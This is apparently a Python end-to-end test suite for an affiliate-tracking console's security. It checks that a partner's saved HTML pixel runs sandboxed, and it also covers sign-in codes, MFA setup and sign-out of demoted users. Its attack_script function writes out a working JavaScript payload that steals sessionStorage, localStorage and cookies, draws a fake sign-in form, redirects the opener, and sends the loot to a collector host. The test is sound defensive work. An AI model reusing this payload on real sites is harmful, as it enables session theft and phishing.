"""A partner's HTML pixel against the console, in a real browser (Debian's Chromium, Playwright).

The attack of issue 26: the network lets partners save HTML pixel code; a partner saves a script
that, served by the iframe pixel on the tracking host (which is also the console's host), tries
to read the console's tokens, to move the address bar to the console and draw a sign-in form
there, and to navigate the console's window. The pixel's HTML runs sandboxed in an opaque origin
(``Content-Security-Policy: sandbox allow-scripts``): its script runs, and finds nothing.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import unquote, urlsplit

import pytest

from tests.e2e.chromium import ARGS, CHROMIUM
from tests.e2e.conftest import LocalRuntime, click, make_network, wait_for
from tests.e2e.test_console_browser import console_sign_in_url, printed

pytestmark = [pytest.mark.e2e, pytest.mark.browser]


class Attacker(ThreadingHTTPServer):
    """The partner's server: it collects what its script found, and hosts the fake sign-in page."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Collect)
        self.loot: list[dict[str, str]] = []
        self.visits: list[str] = []

    @property
    def base(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


class _Collect(BaseHTTPRequestHandler):
    server: Attacker

    def do_GET(self) -> None:
        parts = urlsplit(self.path)
        if parts.path == "/loot":
            self.server.loot.append(json.loads(unquote(parts.query)))
        else:
            self.server.visits.append(self.path)
        self.send_response(200)
        self.send_header("content-type", "text/html")
        self.send_header("content-length", "0")
        self.end_headers()

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    server = Attacker()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()


def attack_script(collector: str) -> str:
    """Everything the partner's script of the report did, each step's outcome sent home."""
    return (
        '<div id="gp" data-tid="{transaction_id}"></div><script>'
        "var out = {tid: document.getElementById('gp').dataset.tid};"
        "function attempt(name, step) { try { out[name] = String(step()); }"
        " catch (e) { out[name] = 'blocked: ' + e.name; } }"
        "attempt('origin', function () { return self.origin; });"
        "attempt('session', function () { return JSON.stringify(Object.assign({}, sessionStorage)); });"
        "attempt('local', function () { return JSON.stringify(Object.assign({}, localStorage)); });"
        "attempt('cookie', function () { return document.cookie; });"
        "var opener = window.opener || window.top.opener;"
        "attempt('opener_session', function () {"
        " return opener ? JSON.stringify(Object.assign({}, opener.sessionStorage)) : 'no opener'; });"
        "attempt('opener_draw', function () { if (!opener) return 'no opener';"
        " opener.document.body.innerHTML = '<h1 id=fake>Sign in again</h1>'; return 'drawn'; });"
        "attempt('opener_navigate', function () { if (!opener) return 'no opener';"
        f" opener.location.href = '{collector}/phish?opener'; return 'navigated'; }});"
        "attempt('top_draw', function () { window.top.document.body.innerHTML = '<form>Sign in again</form>';"
        " return 'drawn'; });"
        "attempt('address_bar', function () { history.replaceState(null, '', '/console#/'); return location.href; });"
        "fetch('/console').then(function (r) { return r.text(); })"
        ".then(function (t) { out.fetch_console = 'read ' + t.length; }, function (e) { out.fetch_console = 'blocked: ' + e.name; })"
        f".then(function () {{ new Image().src = '{collector}/loot?' + encodeURIComponent(JSON.stringify(out)); }});"
        "</script>"
    )


def _network_takes_partner_html(runtime: LocalRuntime) -> None:
    network = runtime.admin("GET", "/admin/network").json()
    updated = runtime.admin(
        "PUT",
        "/admin/network",
        {"partners_manage_postbacks": True, "partners_html_pixels": True},
        headers={"if-match": f'"{network["version"]}"'},
    )
    assert updated.status == 200, updated.body


def test_a_partners_pixel_script_finds_nothing_of_the_console_and_cannot_touch_its_window(
    runtime: LocalRuntime, attacker: Attacker
) -> None:
    from playwright.sync_api import sync_playwright

    net = make_network(
        runtime,
        "https://shop.example.com/landing?tid={transaction_id}",
        goals=[{"name": "Upgrade", "protocol": "iframe", "payout": {"flat": "1"}}],
    )
    offer_id, goal_id = net["offer"]["offer_id"], net["goals"][0]["goal_id"]
    _network_takes_partner_html(runtime)
    saved = runtime.get(
        f"/partner/offers/{offer_id}/postbacks",
        {"x-api-key": net["partner"]["api_key"]},
        method="POST",
        data={"goal_id": goal_id, "kind": "html", "code": attack_script(attacker.base)},
    )
    assert saved.status == 201, saved.body
    tids = [click(runtime, net), click(runtime, net)]  # a session each: every hit converts and shows
    pixels = [
        f"{runtime.base_url}/aff_goal?a=l&goal_name=upgrade&offer_id={offer_id}&transaction_id={tid}"
        for tid in tids
    ]

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        try:
            page = browser.new_context().new_page()
            page.set_default_timeout(15_000)
            page.goto(console_sign_in_url(runtime))
            page.get_by_role("heading", name="Dashboard", exact=True).wait_for()
            tokens = page.evaluate("JSON.stringify(Object.assign({}, sessionStorage))")
            assert "refresh" in tokens  # the console's tokens are there to be stolen

            # 1. the admin opens the pixel from the console (a new window: the console is its opener)
            with page.expect_popup() as popped:
                page.evaluate(f"window.open({json.dumps(pixels[0])})")
            popup = popped.value
            wait_for(lambda: len(attacker.loot) == 1)
            from_popup = attacker.loot[0]
            popup.close()

            # 2. the admin follows the pixel's link in the console's own tab
            page.goto(pixels[1])
            wait_for(lambda: len(attacker.loot) == 2)
            in_tab = attacker.loot[1]
            shown_url = page.url
        finally:
            browser.close()

    for found, tid in ((from_popup, tids[0]), (in_tab, tids[1])):
        assert found["tid"] == tid, found  # the partner's pixel ran, with its macro filled in
        assert found["origin"] == "null"  # an opaque origin, not the console's
        assert found["session"].startswith("blocked") and found["local"].startswith("blocked")
        assert found["cookie"].startswith("blocked")
        assert found["fetch_console"].startswith("blocked")
        assert found["address_bar"].startswith("blocked")
        assert "refresh" not in json.dumps(found) and "access" not in json.dumps(found)
        assert found["top_draw"].startswith("blocked")  # nothing drawn on the page around it
    assert from_popup["opener_session"].startswith("blocked")
    assert from_popup["opener_draw"].startswith("blocked")
    assert attacker.visits == []  # the console's window was never navigated to the partner's page
    assert shown_url == pixels[1]  # the address bar never showed the console for the partner's page


def _cognito(runtime: LocalRuntime, action: str, body: dict[str, Any]) -> Any:
    return runtime.get(
        "/__local/cognito",
        {
            "x-amz-target": f"AWSCognitoIdentityProviderService.{action}",
            "content-type": "application/x-amz-json-1.1",
        },
        method="POST",
        data=body,
    )


def test_the_local_sign_in_passes_only_the_consoles_calls_and_prints_a_one_time_code(
    runtime: LocalRuntime,
) -> None:
    line = printed(runtime, r"Console \(signed in as admin\): \S+#signed-in=(\S+)")
    code = line.group(1)
    assert not code.startswith("eyJ") and len(code) < 64  # a code, not a token
    first = runtime.get("/__local/sign-in-code", method="POST", data={"code": code})
    assert first.status == 200 and first.json()["access"].startswith("eyJ")
    again = runtime.get("/__local/sign-in-code", method="POST", data={"code": code})
    assert again.status == 400  # spent: what logs and history keep is worth nothing
    assert runtime.get("/__local/sign-in-code/new", method="POST", data={}).status == 404  # admin token only

    client_id = runtime.get("/console/config.json").json()["clientId"]
    user, password = printed(runtime, r"(viewer) / (\S+) \(ConsoleViewers\)").groups()
    for action, body in (
        ("AdminAddUserToGroup", {"UserPoolId": "x", "Username": user, "GroupName": "ConsoleAdmins"}),
        ("AdminGetUser", {"UserPoolId": "x", "Username": user}),
        ("ListUsers", {"UserPoolId": "x"}),
        ("UpdateUserAttributes", {"AccessToken": "x", "UserAttributes": []}),
    ):
        refused = _cognito(runtime, action, body)
        assert refused.status == 400 and b"not a sign-in call" in refused.body, (action, refused.body)

    signed_in = _cognito(
        runtime,
        "InitiateAuth",
        {
            "AuthFlow": "USER_PASSWORD_AUTH",
            "ClientId": client_id,
            "AuthParameters": {"USERNAME": user, "PASSWORD": password},
        },
    )
    assert signed_in.status == 200, signed_in.body
    refresh = signed_in.json()["AuthenticationResult"]["RefreshToken"]
    refreshing = {
        "AuthFlow": "REFRESH_TOKEN_AUTH",
        "ClientId": client_id,
        "AuthParameters": {"REFRESH_TOKEN": refresh},
    }
    assert _cognito(runtime, "InitiateAuth", refreshing).status == 200
    assert _cognito(runtime, "RevokeToken", {"Token": refresh, "ClientId": client_id}).status == 200
    assert (
        _cognito(runtime, "InitiateAuth", refreshing).status == 400
    )  # signed out: the refresh token is spent


def test_after_sign_out_the_access_token_the_gateway_still_takes_is_refused(runtime: LocalRuntime) -> None:
    """As on AWS: the gateway (API Gateway's JWT check) takes the unexpired token; the function
    asks Cognito and refuses it (RevokeToken, AdminUserGlobalSignOut, a disabled user)."""
    client_id = runtime.get("/console/config.json").json()["clientId"]
    user, password = printed(runtime, r"(viewer) / (\S+) \(ConsoleViewers\)").groups()
    signing_in = {"USERNAME": user, "PASSWORD": password}
    answer = _cognito(
        runtime,
        "InitiateAuth",
        {"AuthFlow": "USER_PASSWORD_AUTH", "ClientId": client_id, "AuthParameters": signing_in},
    ).json()["AuthenticationResult"]
    revoked = _cognito(runtime, "RevokeToken", {"Token": answer["RefreshToken"], "ClientId": client_id})
    assert revoked.status == 200
    bearer = {"authorization": f"Bearer {answer['AccessToken']}"}
    refused = runtime.get("/console/api/admin/advertisers", bearer)
    assert refused.status == 401 and refused.json()["error"]["code"] == "console_signed_out", refused.body


def _totp(secret: str, at: float) -> str:
    """RFC 6238 (what an authenticator app shows): HMAC-SHA1 over the 30 s step, 6 digits."""
    import base64
    import hashlib
    import hmac
    import struct

    key = base64.b32decode(secret.upper() + "=" * (-len(secret) % 8))
    digest = hmac.new(key, struct.pack(">Q", int(at // 30)), hashlib.sha1).digest()
    offset = digest[-1] & 0x0F
    return f"{(struct.unpack('>I', digest[offset : offset + 4])[0] & 0x7FFFFFFF) % 1_000_000:06d}"


def test_a_new_console_user_sets_up_an_authenticator_app_at_the_first_sign_in(runtime: LocalRuntime) -> None:
    """MFA is required by default (ConsoleMfa): the console walks a new user through the new
    password, the authenticator app's key and its first code, then asks for a code every time."""
    import boto3
    from playwright.sync_api import sync_playwright

    from goalpost.model import clock

    cognito = boto3.client("cognito-idp", endpoint_url=runtime.dynamodb_endpoint, region_name="us-east-1")
    pool_id = next(
        p["Id"] for p in cognito.list_user_pools(MaxResults=60)["UserPools"] if "ConsoleUserPool" in p["Name"]
    )
    assert cognito.get_user_pool_mfa_config(UserPoolId=pool_id)["MfaConfiguration"] == "ON"  # as deployed
    cognito.admin_create_user(
        UserPoolId=pool_id, Username="newbie", TemporaryPassword="Temp-Passw0rd-1", MessageAction="SUPPRESS"
    )
    cognito.admin_add_user_to_group(UserPoolId=pool_id, Username="newbie", GroupName="ConsoleViewers")

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        try:
            page = browser.new_context().new_page()
            page.set_default_timeout(15_000)
            page.goto(f"{runtime.base_url}/console")
            page.get_by_label("User name").fill("newbie")
            page.get_by_label("Password", exact=True).fill("Temp-Passw0rd-1")
            page.get_by_role("button", name="Sign in", exact=True).click()
            page.get_by_label("Choose a new password").fill("Chosen-Passw0rd-2")
            page.get_by_role("button", name="Continue").click()
            secret = page.locator("#mfa-secret").inner_text()
            code = page.get_by_label("Code from your authenticator app")
            assert code.input_value() == ""  # the new password is not left in the code field
            code.fill(_totp(secret, clock.now()))
            page.get_by_role("button", name="Continue").click()
            page.get_by_role("heading", name="Dashboard", exact=True).wait_for()

            page.get_by_role("button", name="Sign out").click()
            page.get_by_label("User name").fill("newbie")
            page.get_by_label("Password", exact=True).fill("Chosen-Passw0rd-2")
            page.get_by_role("button", name="Sign in", exact=True).click()
            page.get_by_label("Code from your authenticator app").fill(_totp(secret, clock.now()))
            page.get_by_role("button", name="Continue").click()
            page.get_by_role("heading", name="Dashboard", exact=True).wait_for()
        finally:
            browser.close()


def test_a_demoted_or_disabled_console_user_is_signed_out_everywhere(runtime: LocalRuntime) -> None:
    """Issue 26, point 5: the admin API's console-user routes sign out whoever they demote or
    disable; over HTTP, the user's refresh token yields nothing more and the access token the
    gateway still takes is refused by the admin API."""
    import boto3

    cognito = boto3.client("cognito-idp", endpoint_url=runtime.dynamodb_endpoint, region_name="us-east-1")
    pool_id = next(
        p["Id"] for p in cognito.list_user_pools(MaxResults=60)["UserPools"] if "ConsoleUserPool" in p["Name"]
    )
    client_id = runtime.get("/console/config.json").json()["clientId"]
    signed_in = {}
    for username, group in (("demoted-alice", "ConsoleAdmins"), ("disabled-bob", "ConsoleViewers")):
        cognito.admin_create_user(UserPoolId=pool_id, Username=username, MessageAction="SUPPRESS")
        cognito.admin_set_user_password(
            UserPoolId=pool_id, Username=username, Password="Chosen-Passw0rd-9", Permanent=True
        )
        cognito.admin_add_user_to_group(UserPoolId=pool_id, Username=username, GroupName=group)
        answer = _cognito(
            runtime,
            "InitiateAuth",
            {
                "AuthFlow": "USER_PASSWORD_AUTH",
                "ClientId": client_id,
                "AuthParameters": {"USERNAME": username, "PASSWORD": "Chosen-Passw0rd-9"},
            },
        )
        assert answer.status == 200, answer.body
        signed_in[username] = answer.json()["AuthenticationResult"]

    def refreshes(username: str) -> int:
        refresh = signed_in[username]["RefreshToken"]
        body = {
            "AuthFlow": "REFRESH_TOKEN_AUTH",
            "ClientId": client_id,
            "AuthParameters": {"REFRESH_TOKEN": refresh},
        }
        return int(_cognito(runtime, "InitiateAuth", body).status)

    def reads(username: str) -> Any:
        bearer = {"authorization": f"Bearer {signed_in[username]['AccessToken']}"}
        return runtime.get("/console/api/admin/advertisers", bearer)

    for username in signed_in:
        assert reads(username).status == 200 and refreshes(username) == 200

    demoted = runtime.admin("PATCH", "/admin/console-users/demoted-alice", {"group": "ConsoleViewers"})
    assert demoted.status == 200 and demoted.json()["signed_out"] is True, demoted.body
    disabled = runtime.admin("PATCH", "/admin/console-users/disabled-bob", {"enabled": False})
    assert disabled.status == 200 and disabled.json()["enabled"] is False, disabled.body

    for username in signed_in:
        assert refreshes(username) == 400, username  # the refresh token yields no new tokens
        refused = reads(username)
        assert refused.status == 401 and refused.json()["error"]["code"] == "console_signed_out", refused.body
